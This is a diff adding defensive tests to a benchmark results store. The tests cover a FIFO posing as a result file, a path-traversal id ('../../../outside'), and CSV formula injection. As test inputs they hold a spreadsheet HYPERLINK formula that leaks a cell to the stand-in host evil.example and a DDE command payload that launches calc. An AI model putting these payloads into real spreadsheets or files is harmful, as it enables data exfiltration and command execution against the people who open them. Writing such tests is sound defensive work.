@@ -1,8 +1,11 @@
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
-import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { spawnSync } from 'node:child_process';
+import { cpSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { newStoreId, openResultsStore, StoreError } from '../../../src/core/results/store';
+import { resultsToCsv } from '../../../src/core/results/csv';
+import { FIXTURE_EXPERIMENT_ID, FIXTURE_STORE } from '../report/fixture';
 import { BenchmarkResult, type BenchmarkResultInput } from '../../../src/core/plan/schema';
 import { useTempDirs } from '../../support/tempDirs';
 
@@ -91,4 +94,55 @@ test('watch reports a new result file', async () => {
   await new Promise((r) => setTimeout(r, 400));
   w.dispose();
   assert.ok(fired >= 1, 'onChange was called');
+});
+
+// ---------------------------------------------------------------- hostile files (issue 16)
+
+test('a FIFO named *.json in the store is skipped and named, not read forever', { timeout: 20_000 }, async () => {
+  const root = tempDir('sl-store-fifo-');
+  const store = openResultsStore(root);
+  await store.saveResult(sampleResult('r-1'));
+  const fifo = join(root, 'results', 'r-2.json');
+  assert.equal(spawnSync('mkfifo', [fifo]).status, 0);
+  const { results, problems } = await store.listResults();
+  assert.deepEqual(results.map((r) => r.id), ['r-1']);
+  assert.equal(problems.length, 1);
+  assert.match(problems[0]!.message, /r-2\.json: not a regular file/);
+  await assert.rejects(store.loadResult('r-2'), /not a regular file/);
+});
+
+test("a manifest's inner id must equal its file name (an id of ../../.. never reaches a path)", async () => {
+  const root = tempDir('sl-store-id-');
+  cpSync(FIXTURE_STORE, root, { recursive: true });
+  const file = join(root, 'experiments', `${FIXTURE_EXPERIMENT_ID}.json`);
+  const manifest = JSON.parse(readFileSync(file, 'utf8')) as { id: string };
+  manifest.id = '../../../outside';
+  writeFileSync(file, JSON.stringify(manifest));
+  const store = openResultsStore(root);
+  await assert.rejects(store.loadExperiment(FIXTURE_EXPERIMENT_ID), /inside has id "\.\.\/\.\.\/\.\.\/outside", not "x-20251106-091500-glm45a"/);
+  const { experiments, problems } = await store.listExperiments();
+  assert.equal(experiments.length, 0);
+  assert.match(problems[0]!.message, /must equal its file name/);
+  // Results too: a result file copied under another name is named, not listed under the wrong id.
+  cpSync(join(root, 'results', readdirSync(join(root, 'results'))[0]!), join(root, 'results', 'r-copy.json'));
+  assert.match((await store.listResults()).problems.map((p) => p.message).join('\n'), /r-copy\.json: the result inside has id/);
+});
+
+test('CSV cells that a spreadsheet would run as formulas start with a quote; numbers stay numbers', () => {
+  const hostile = sampleResult('r-1', {
+    stage: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    option: '@SUM(1+1)',
+    workload: undefined,
+    commands: { serve: '+cmd|\' /C calc\'!A0' },
+    notes: [],
+  });
+  const metrics = { ...hostile.metrics, mean_ttft_ms: -1.5 };
+  const csv = resultsToCsv([{ ...hostile, metrics, runner: 'vllm-bench' }]);
+  const [header, row] = csv.trim().split('\n');
+  const cells = row!.match(/("([^"]|"")*"|[^,]*)(,|$)/g)!.map((c) => c.replace(/,$/, ''));
+  const column = (name: string) => cells[header!.split(',').indexOf(name)]!;
+  assert.equal(column('stage'), `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
+  assert.equal(column('option'), "'@SUM(1+1)");
+  assert.equal(column('serveCommand'), "'+cmd|' /C calc'!A0");
+  assert.equal(column('mean_ttft_ms'), '-1.5');
 });
